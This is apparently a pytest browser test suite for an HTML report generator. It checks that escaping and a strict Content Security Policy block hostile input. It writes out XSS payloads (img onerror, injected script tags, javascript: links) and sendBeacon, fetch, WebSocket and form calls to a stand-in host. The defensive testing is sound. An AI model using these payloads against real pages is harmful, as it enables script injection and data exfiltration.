"""Text is hostile until proven otherwise: in a real browser none of it runs, makes an element, or asks for anything."""

import base64
import dataclasses
import hashlib
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import OpenPage
from tests.browser.made import ATTACK, ATTACKS, RUN, attacked
from topores.domain import Analysis
from topores.report import write_report
from topores.report.html.safe import clean

from .using import use_everything

pytestmark = pytest.mark.slow

Written = Callable[[str], Path]

INJECTED = """() => [...document.querySelectorAll("*")].flatMap((node) => {
  const told = (what) => `${node.tagName} ${what.slice(0, 200)}`;
  const href = node.getAttribute("href") ?? "#";
  const strange = node.matches("img, iframe, object, embed, base, link, math, foreignObject, animate, set")
    || (node.matches("meta[http-equiv]") && node.httpEquiv !== "Content-Security-Policy")
    || (node.matches("script") && !["application/json", "text/plain", "module"].includes(node.type));
  return [
    ...(strange ? [told(node.outerHTML)] : []),
    ...(href.startsWith("#") ? [] : [told(href)]),
    ...node.getAttributeNames().filter((name) => /^on|^src|^(form)?action$/.test(name)).map(told),
  ];
})"""
"""Elements and attributes that no page of topores has."""


def injected(page: Page) -> list[str]:
    return page.evaluate(INJECTED)


@pytest.mark.parametrize("kind", ["attacked", "hostile", "compare-hostile"])
@pytest.mark.parametrize("bypass_csp", [False, True], ids=["policy", "escapes alone"])
def test_nothing_hostile_runs_whatever_is_used(
    kind: str, bypass_csp: bool, written: Written, open_page: OpenPage
) -> None:
    page = open_page(written(kind), bypass_csp=bypass_csp).page
    use_everything(page, ATTACKS)
    assert injected(page) == []
    assert page.locator("script").count() == page.locator("body > script").count()


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_each_attack_is_shown_as_words_in_the_title_and_the_verdict(
    attack: str, bare: Analysis, open_page: OpenPage
) -> None:
    """One by one, since one attack may spoil the next."""
    hostile = dataclasses.replace(bare, name=attack, verdict=dataclasses.replace(bare.verdict, sentence=attack))
    page = open_page(hostile, bypass_csp=True).page
    assert page.locator("h1").text_content() == clean(attack)
    assert page.title() == " ".join(clean(f"{attack}: {attack}").split())
    assert injected(page) == []


MISLEADING = "[\x00\x1b\x7f\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufeff\ufffe]"


def test_what_turns_the_reading_direction_or_hides_is_not_on_the_page(written: Written, open_page: OpenPage) -> None:
    page = open_page(written("attacked")).page
    use_everything(page)
    text = page.evaluate("document.documentElement.textContent")
    assert set(re.findall(MISLEADING, text)) == set()


def test_file_names_are_harmless(full: Analysis, open_page: OpenPage, tmp_path: Path) -> None:
    name = f"<img src=x onerror={RUN}>\u202e\u2028#cycle=5&x='\"--><script>{RUN}<.html"
    page = open_page(write_report(attacked(full), tmp_path / name)).page
    assert page.locator("h1").text_content() == clean(ATTACK)
    use_everything(page)
    assert injected(page) == []


def test_the_address_is_harmless(written: Written, open_page: OpenPage) -> None:
    keys = ("cycle", "layer", "cloud", "loop", "passage")
    page = open_page(written("attacked"), hash="&".join(f"{key}={quoted(ATTACK)}" for key in keys)).page
    for attack in (*ATTACKS, "cycle=5&cycle=6", "cycle", "&&==", "%", "%00", "__proto__=x", "a" * 100_000):
        words = "&".join(f"{key}={quoted(attack)}" for key in (*keys, quoted(attack)))
        page.evaluate("([said, words]) => { location.hash = said; location.hash = words; }", [attack, words])
    page.wait_for_timeout(200)
    assert injected(page) == []


def quoted(text: str) -> str:
    return quote(text, safe="=&%", errors="ignore")


@pytest.mark.parametrize("text", ["x" * 1_000_000, ATTACK * 1000, "слово " * 170_000], ids=["word", "attack", "words"])
def test_a_megabyte_in_every_passage_opens_all_the_same(
    text: str, full: Analysis, open_page: OpenPage, tmp_path: Path
) -> None:
    corpus = full.corpus
    assert corpus is not None
    huge = tuple(dataclasses.replace(p, text=text, document=text) for p in corpus.t1)
    path = write_report(dataclasses.replace(full, corpus=dataclasses.replace(corpus, t1=huge)), tmp_path / "huge.html")
    assert path.stat().st_size < 2_000_000
    page = open_page(path, width=360).page
    use_everything(page)
    assert injected(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.mark.parametrize("kind", ["full", "bare", "attacked", "compare", "clock"])
def test_the_policy_is_strict_and_names_the_hashes_of_the_very_blocks(
    kind: str, written: Written, open_page: OpenPage
) -> None:
    page = open_page(written(kind)).page
    policy = page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content") or ""
    rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";")}
    scripts, (style,) = (page.locator(tag).all_text_contents() for tag in ("script[type=module]", "style"))
    assert rules["default-src"] == ["'none'"]
    assert rules["script-src"] == ([sha256(script) for script in scripts] or ["'none'"])
    assert rules["style-src"] == [sha256(style)]
    assert rules["base-uri"] == rules["form-action"] == ["'none'"]
    assert "unsafe" not in policy
    # What stands before the policy is not under it.
    before = page.evaluate("document.querySelector('meta[http-equiv]').previousElementSibling.outerHTML")
    assert before == '<meta charset="utf-8">'


def sha256(block: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(block.encode()).digest()).decode()}'"


MAKE = "const made = document.createElement('{}'); {}; document.body.append(made);"
FORBIDDEN = {
    "an inline script": MAKE.format("script", "made.append('window.__ran=1')"),
    "a remote script": MAKE.format("script", "made.src = '//remote.invalid/x.js'"),
    "a script as HTML": "document.body.innerHTML += '<img src=x onerror=window.__ran=1>'",
    "a handler": "document.body.setAttribute('onclick', 'window.__ran=1'); document.body.click()",
    "a script in a link": MAKE.format("a", "made.href = 'javascript:window.__ran=1'") + "made.click()",
    "a string as code": "setTimeout('window.__ran=1')",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.__ran = 1 }",
    "a frame": MAKE.format("iframe", "made.src = 'https://remote.invalid'"),
    "an image": "new Image().src = 'https://remote.invalid/x.png'",
    "a request": "fetch('https://remote.invalid/x').catch(() => 0)",
    "a beacon": "navigator.sendBeacon('https://remote.invalid/x', 'words')",
    "a socket": "new WebSocket('wss://remote.invalid/x')",
    "a style": MAKE.format("style", "made.append('body { color: red !important }')"),
    "a form": MAKE.format("form", "made.action = 'https://remote.invalid'") + "made.submit()",
}
"""What the policy keeps even a page that was taken over from doing."""

ATTEMPT = """async (code) => {
  const refused = [];
  const colour = getComputedStyle(document.body).color;
  addEventListener("securitypolicyviolation", (violation) => refused.push(violation.effectiveDirective));
  try { CODE } catch { /* Refused at once. */ }
  await new Promise((done) => setTimeout(done, 200));
  return [refused, getComputedStyle(document.body).color === colour];
}"""


@pytest.mark.parametrize("what", FORBIDDEN)
def test_the_policy_is_enforced(what: str, written: Written, open_page: OpenPage) -> None:
    view = open_page(written("full"))
    refused, same_colour = view.page.evaluate(ATTEMPT.replace("CODE", FORBIDDEN[what]))
    # The policy refused it: it was not luck, nor the network that is not there.
    assert refused
    assert {asked.failure for asked in view.requests} <= {"csp"}
    assert same_colour
    view.messages.clear()
    view.requests.clear()


def test_where_an_escape_fails_the_policy_still_stops_it(full: Analysis, open_page: OpenPage, tmp_path: Path) -> None:
    path = write_report(full, tmp_path / "broken.html")
    html = path.read_text(encoding="utf-8")
    unescaped = (
        f"<script>{RUN}</script><script src=//remote.invalid/x.js></script><img src=//remote.invalid/x.png>"
        f"<b id=b onclick={RUN} style='color:red'>b</b><svg><script>{RUN}</script></svg><iframe srcdoc=x></iframe>"
    )
    path.write_text(html.replace("</h1>", f"</h1>{unescaped}", 1), encoding="utf-8")
    view = open_page(path)
    view.page.locator("#b").click()
    assert view.page.locator("#b").evaluate("(b) => getComputedStyle(b).color") != "rgb(255, 0, 0)"
    # Two inline scripts, a handler, a style, a remote script and an image: each is refused by name.
    assert sum("Content Security Policy" in message for message in view.messages) >= 6
    assert {asked.failure for asked in view.requests} == {"csp"}
    view.messages.clear()
    view.requests.clear()
